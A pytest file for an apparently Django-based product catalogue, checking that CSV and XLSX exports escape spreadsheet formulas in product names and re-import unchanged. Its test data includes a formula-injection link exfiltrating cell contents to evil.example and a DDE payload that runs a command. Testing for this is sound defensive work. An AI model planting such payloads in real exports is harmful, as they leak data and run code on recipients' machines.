"""Catalogue exports open in a spreadsheet as data: a product name never runs as a formula.

The attack: a product named =HYPERLINK(…) (typed in the admin or imported) that, exported
and opened in Excel, shows a link leaking the neighbouring cells to another site.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.test import Client

from catalog.models import Accessory, BatteryModule
from tests.catalog.admin_helpers import download_export, upload_for_preview, user_in

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?d="&B2&C2;"Handleiding")'
OTHER_FORMULAE = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


@pytest.fixture
def editor_client() -> Client:
    client = Client()
    client.force_login(user_in("Catalogusbeheer", "beheer"))
    return client


@pytest.fixture
def poisoned() -> list[Accessory]:
    accessories = list(Accessory.objects.order_by("article")[:4])
    for accessory, name in zip(accessories, [FORMULA, *OTHER_FORMULAE], strict=True):
        accessory.name_nl = name
        accessory.save()
    return accessories


def csv_rows(content: bytes) -> dict[str, dict[str, str]]:
    return {row["article"]: row for row in csv.DictReader(io.StringIO(content.decode()))}


def test_a_formula_in_a_product_name_is_exported_to_csv_as_text(
    editor_client: Client, poisoned: list[Accessory]
) -> None:
    rows = csv_rows(download_export(editor_client, "accessory", "csv"))
    assert rows[poisoned[0].article]["name_nl"] == "'" + FORMULA
    for accessory, name in zip(poisoned[1:], OTHER_FORMULAE, strict=True):
        assert rows[accessory.article]["name_nl"] == "'" + name
    # No cell anywhere in the file starts a formula.
    cells = [cell for row in rows.values() for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "@"}]


def test_a_formula_in_a_product_name_is_exported_to_xlsx_as_text_not_a_live_formula(
    editor_client: Client, poisoned: list[Accessory]
) -> None:
    book = openpyxl.load_workbook(io.BytesIO(download_export(editor_client, "accessory", "xlsx")))
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    rows = {row[header.index("article")].value: row for row in sheet.iter_rows(min_row=2)}
    name = rows[poisoned[0].article][header.index("name_nl")]
    assert name.data_type == "s"
    assert name.value == "'" + FORMULA
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_an_exported_catalogue_with_formulae_and_negative_numbers_re_imports_unchanged(
    editor_client: Client,
) -> None:
    module = BatteryModule.objects.get(code="SMILE-G3-BAT-9.3S")
    module.name_nl = FORMULA
    module.save()
    assert module.min_temperature_c < 0  # "-10,0" is a number, not a formula to escape
    exported = download_export(editor_client, "batterymodule", "csv")
    preview = upload_for_preview(editor_client, "batterymodule", exported)
    totals = preview.context["result"].totals
    assert (totals["update"], totals["skip"]) == (0, BatteryModule.objects.count())
